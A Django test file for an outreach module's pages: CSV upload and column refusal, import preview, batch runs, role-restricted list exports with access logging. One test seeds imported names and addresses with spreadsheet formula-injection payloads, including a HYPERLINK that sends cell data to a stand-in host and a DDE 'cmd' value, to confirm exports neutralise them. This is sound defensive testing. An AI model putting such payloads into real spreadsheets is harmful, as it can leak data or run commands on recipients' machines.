"""The pages: upload with refusal, preview and import, runs, lists with permission-checked, logged exports."""

from __future__ import annotations

import datetime as dt
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse

from mizui.accounts.models import AccessAction, AccessLog, Role
from mizui.accounts.tenancy import tenant_context
from mizui.outreach import synthetic
from mizui.outreach.models import ImportStatus, RecordImport
from mizui.outreach.services import batch
from mizui.outreach.services.importer import run_import, start_import
from mizui.outreach.tests.factories import make_import, make_source
from mizui.test import MizuiTestCase, formula_cells, login, make_membership, make_user

IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


class OutreachPageTests(MizuiTestCase):
    def setUp(self) -> None:
        login(self.client, self.michal, authority=self.a)

    def test_it_refuses_an_upload_with_an_unnamed_column(self) -> None:
        source = make_source(self.a)
        content = synthetic.csv_bytes([[*r, "x"] for r in synthetic.rows(2)], header=[*synthetic.COLUMNS, "religion"])
        response = self.client.post(
            reverse("outreach:import-new"),
            {"source": source.pk, "file": SimpleUploadedFile("list.csv", content)},
            follow=True,
        )
        self.assertContains(response, "religion")
        with tenant_context(self.a):
            self.assertFalse(RecordImport.objects.for_authority(self.a).exists())

    @override_settings(TASKS=IMMEDIATE)
    def test_upload_preview_then_import_shows_the_reconciliation(self) -> None:
        source = make_source(self.a)
        rows = list(synthetic.rows(6, seed=2))
        rows[1][0] = "12345"
        response = self.client.post(
            reverse("outreach:import-new"),
            {"source": source.pk, "file": SimpleUploadedFile("list.csv", synthetic.csv_bytes(rows))},
            follow=True,
        )
        self.assertContains(response, "תצוגה מקדימה")
        self.assertContains(response, "מספר זהות שגוי")
        with tenant_context(self.a):
            item = RecordImport.objects.for_authority(self.a).get()
        self.assertEqual(item.status, ImportStatus.PREVIEW)
        response = self.client.post(reverse("outreach:import-start", args=[item.pk]), follow=True)
        self.assertContains(response, "כל שורה בקובץ נספרה")
        item.refresh_from_db()
        self.assertEqual((item.rows_total, item.merged, item.quarantined), (len(rows), len(rows) - 1, 1))

    def test_the_source_mapping_is_saved_from_a_sample_header(self) -> None:
        content = synthetic.csv_bytes([], header=["ת.ז.", "שם", "דת"])
        response = self.client.post(
            reverse("outreach:source-new"), {"name": "רווחה", "file": SimpleUploadedFile("s.csv", content)}
        )
        self.assertContains(response, "ת.ז.")
        response = self.client.post(
            reverse("outreach:source-new"),
            {
                "name": "רווחה",
                "columns": '["ת.ז.", "שם", "דת"]',
                "col_0": "id_number",
                "col_1": "full_name",
                "col_2": "",
            },
        )
        self.assertRedirects(response, reverse("outreach:index"))
        with tenant_context(self.a):
            from mizui.outreach.models import Source

            self.assertEqual(
                Source.objects.for_authority(self.a).get(name="רווחה").mapping,
                {"ת.ז.": "id_number", "שם": "full_name", "דת": ""},
            )

    @override_settings(TASKS=IMMEDIATE)
    def test_a_batch_run_then_a_list_and_a_logged_export(self) -> None:
        make_import(self, self.a, households=40, run=True)
        response = self.client.post(reverse("outreach:run-new"), follow=True)
        self.assertContains(response, "זכאים לזכות שאינם מקבלים")
        response = self.client.get(reverse("outreach:lists"))
        self.assertContains(response, "רשימות פנייה")
        response = self.client.get(reverse("outreach:list-export") + "?format=csv")
        self.assertEqual(response.status_code, 200)
        body = response.content.decode("utf-8-sig")
        self.assertIn("טלפון", body.splitlines()[0])
        self.assertTrue(
            AccessLog.objects.filter(user=self.michal, action=AccessAction.EXPORT, object_type="outreach_list").exists()
        )
        xlsx = self.client.get(reverse("outreach:list-export") + "?format=xlsx")
        self.assertEqual(
            xlsx["Content-Type"].split(";")[0], "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )

    @override_settings(TASKS=IMMEDIATE)
    def test_an_exported_list_runs_no_formula_from_an_imported_name_or_address(self) -> None:
        columns = synthetic.COLUMNS
        rows = [list(r) for r in synthetic.rows(40, seed=40)]
        for row in rows:
            row[columns.index("full_name")] = '=HYPERLINK("http://x.example/?"&A1,"פרטים")'
            row[columns.index("address")] = "+972 cmd|' /C calc'!A0"
            row[columns.index("neighbourhood")] = "@SUM(1+1)"
        source = make_source(self.a)
        with tenant_context(self.a):
            item, _ = start_import(
                None, authority=self.a, source=source, name="a.csv", fileobj=io.BytesIO(synthetic.csv_bytes(rows))
            )
        run_import(item)
        self.client.post(reverse("outreach:run-new"))
        for fmt in ("csv", "xlsx"):
            content = self.client.get(reverse("outreach:list-export") + f"?format={fmt}").content
            self.assertEqual(formula_cells(content, fmt), [])
            self.assertIn("HYPERLINK", content.decode("utf-8-sig") if fmt == "csv" else _xlsx_text(content))

    def test_analysts_see_aggregates_but_not_lists_or_exports(self) -> None:
        analyst = make_user("noam@a.test", "נועם פרץ")
        make_membership(analyst, self.a, Role.ANALYST)
        login(self.client, analyst, authority=self.a)
        self.assertEqual(self.client.get(reverse("outreach:index")).status_code, 200)
        self.assertEqual(self.client.get(reverse("outreach:lists")).status_code, 403)
        self.assertEqual(self.client.get(reverse("outreach:list-export")).status_code, 403)
        login(self.client, self.yael, authority=self.a)
        self.assertEqual(self.client.get(reverse("outreach:index")).status_code, 403)

    def test_the_index_page_lists_imports_and_runs(self) -> None:
        make_import(self, self.a, households=3, run=True)
        with tenant_context(self.a):
            run = batch.start_run(None, authority=self.a, as_of=dt.date(2026, 1, 15))
        batch.execute_run(run)
        response = self.client.get(reverse("outreach:index"))
        self.assertContains(response, "arnona.csv")
        self.assertContains(response, "15.01.2026")


def _xlsx_text(content: bytes) -> str:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))
    return " ".join(str(c) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row)
